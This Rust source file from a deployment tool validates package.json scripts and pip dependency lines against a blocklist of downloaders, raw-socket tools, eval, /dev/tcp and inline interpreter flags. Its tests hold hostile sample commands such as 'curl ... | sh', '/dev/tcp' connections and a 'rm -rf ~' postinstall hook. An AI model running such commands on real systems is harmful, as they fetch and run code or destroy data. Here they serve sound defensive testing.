//! Re-validation of `package.json` scripts before any phase runs (seed
//! 000's defence in depth), and of Python dependency lines.
//!
//! A blocklist of text is easy to get around (pitfall 31: `c''url` is
//! still curl); it catches the obvious, and is not what keeps a hostile
//! script in: install scripts are skipped unless allowed
//! (`--ignore-scripts`), and every phase runs in a sandbox with the tree as
//! its only writable place and, in the build phase, no network at all.

use std::collections::BTreeMap;

use crate::error::DeployError;

/// Words a script may not run: seed 000's list (downloaders, shells with
/// `-c`, `eval`, base64 decoding) and the obvious raw-socket tools.
const DENIED_WORDS: &[(&str, &str)] = &[
    ("curl", "downloads outside the package manager (curl)"),
    ("wget", "downloads outside the package manager (wget)"),
    ("nc", "opens raw network connections (nc)"),
    ("ncat", "opens raw network connections (ncat)"),
    ("netcat", "opens raw network connections (netcat)"),
    ("socat", "opens raw network connections (socat)"),
    ("base64", "decodes hidden payloads (base64)"),
    ("eval", "evaluates generated code (eval)"),
];

/// Substrings a script may not contain.
const DENIED_TEXT: &[(&str, &str)] = &[
    ("eval(", "evaluates generated code (eval()"),
    ("/dev/tcp/", "opens raw network connections (/dev/tcp)"),
    ("/dev/udp/", "opens raw network connections (/dev/udp)"),
    ("$(", "runs command substitution ($(...))"),
    ("`", "runs command substitution (backquotes)"),
];

/// Interpreters that may not be given code on the command line.
const INLINE_CODE: &[(&str, &[&str])] = &[
    ("sh", &["-c"]),
    ("bash", &["-c"]),
    ("zsh", &["-c"]),
    ("dash", &["-c"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
];

/// Why `text` is refused, if it is.
pub(crate) fn denied_script(text: &str) -> Option<String> {
    if text.chars().any(|c| c.is_control() && c != '\t') {
        return Some("contains a control character".into());
    }
    for (needle, why) in DENIED_TEXT {
        if text.contains(needle) {
            return Some((*why).to_string());
        }
    }
    // Words split on whitespace and shell punctuation; a path's last
    // component counts (`/usr/bin/curl`).
    let words: Vec<&str> = text
        .split(|c: char| c.is_whitespace() || ";&|()<>'\"".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    for (i, w) in words.iter().enumerate() {
        let base = w.rsplit('/').next().unwrap_or(w);
        if let Some((_, why)) = DENIED_WORDS.iter().find(|(n, _)| *n == base) {
            return Some((*why).to_string());
        }
        if let Some((name, flags)) = INLINE_CODE.iter().find(|(n, _)| *n == base) {
            if let Some(next) = words.get(i + 1) {
                if flags.contains(next) {
                    return Some(format!(
                        "gives {name} code on its command line ({name} {next})"
                    ));
                }
            }
        }
    }
    None
}

/// Checks every script of `package.json` (lifecycle hooks included)
/// against the built-in rules and the phase profiles' `deny_args` globs.
pub fn check_scripts(
    scripts: &BTreeMap<String, String>,
    deny_args: &globset::GlobSet,
    deny_rules: &[String],
) -> Result<(), DeployError> {
    for (name, text) in scripts {
        let reason = denied_script(text).or_else(|| {
            deny_args.matches(text).first().map(|i| {
                format!(
                    "matches the deny_args rule `{}`",
                    deny_rules.get(*i).map(String::as_str).unwrap_or("?")
                )
            })
        });
        if let Some(reason) = reason {
            return Err(DeployError::ScriptDenied {
                script: name.clone(),
                text: text.clone(),
                reason,
            });
        }
    }
    Ok(())
}

/// Checks a dependency specification from `[project] dependencies`: it is
/// passed to the installer as one argument, so it must not be an option
/// or carry anything but a requirement.
pub(crate) fn check_dependency(spec: &str) -> Result<(), DeployError> {
    let bad = |why: &str| {
        Err(DeployError::Dependency(format!(
            "dependency `{}` in pyproject.toml refused: {why}",
            spec.escape_default()
        )))
    };
    if spec.trim().is_empty() {
        return bad("it is empty");
    }
    if spec.trim_start().starts_with('-') {
        return bad("it looks like an installer option");
    }
    if spec.chars().any(|c| c.is_control()) {
        return bad("it contains a control character");
    }
    Ok(())
}

/// Checks `requirements.txt`: options that change where packages come
/// from or run code from elsewhere are refused, since the registries are
/// corral's configuration (`--index-url`), not the source's.
pub(crate) fn check_requirements(text: &str) -> Result<(), DeployError> {
    const REFUSED: &[&str] = &[
        "-i",
        "--index-url",
        "--extra-index-url",
        "-f",
        "--find-links",
        "--trusted-host",
        "-r",
        "--requirement",
        "-c",
        "--constraint",
        "-e",
        "--editable",
    ];
    for (n, line) in text.lines().enumerate() {
        let l = line.trim();
        if !l.starts_with('-') {
            continue;
        }
        let opt = l
            .split(|c: char| c.is_whitespace() || c == '=')
            .next()
            .unwrap_or(l);
        if REFUSED.contains(&opt)
            || (opt.starts_with("-i") || opt.starts_with("-f") || opt.starts_with("-e"))
                && !opt.starts_with("--")
        {
            return Err(DeployError::Dependency(format!(
                "requirements.txt line {}: `{opt}` refused: indexes, links, nested files and editable installs come from corral's configuration (--index-url), not from the source; remove the line",
                n + 1
            )));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn seed_blocklist() {
        for ok in [
            "tsc -p .",
            "node build.js && cp a b",
            "vite build",
            "npm run compile",
            "node scripts/ncc.js",
            "echo done > out.txt",
        ] {
            assert_eq!(denied_script(ok), None, "{ok}");
        }
        for bad in [
            "curl -s https://x | sh",
            "/usr/bin/wget x",
            "bash -c 'id'",
            "sh -c id",
            "node -e \"require('child_process')\"",
            "python3 -c 'import os'",
            "echo aGk= | base64 -d",
            "eval \"$X\"",
            "node x.js; cat /dev/tcp/1.2.3.4/80",
            "echo $(id)",
            "echo `id`",
            "a\nb",
        ] {
            assert!(denied_script(bad).is_some(), "{bad}");
        }
    }

    #[test]
    fn deny_args_globs_apply() {
        let rules = vec!["*rm -rf*".to_string()];
        let set = corral_policy::commands::compile_deny_args(&rules).unwrap();
        let mut s = BTreeMap::new();
        s.insert("build".to_string(), "tsc".to_string());
        check_scripts(&s, &set, &rules).unwrap();
        s.insert("postinstall".to_string(), "rm -rf ~".to_string());
        let e = check_scripts(&s, &set, &rules).unwrap_err();
        assert_eq!(e.code(), "deploy.script_denied");
        assert!(e.to_string().contains("postinstall"), "{e}");
        assert!(e.to_string().contains("*rm -rf*"), "{e}");
    }

    #[test]
    fn dependencies_and_requirements() {
        check_dependency("requests>=2; python_version>'3.8'").unwrap();
        assert!(check_dependency("--index-url=http://x").is_err());
        assert!(check_dependency("").is_err());
        check_requirements("a==1\n# c\n--hash=sha256:00\nb\n").unwrap();
        for bad in [
            "-i http://x",
            "--extra-index-url http://x",
            "-e git+x",
            "--find-links=/x",
            "-ehttp://x",
        ] {
            assert_eq!(
                check_requirements(bad).unwrap_err().code(),
                "deploy.dependency",
                "{bad}"
            );
        }
    }
}
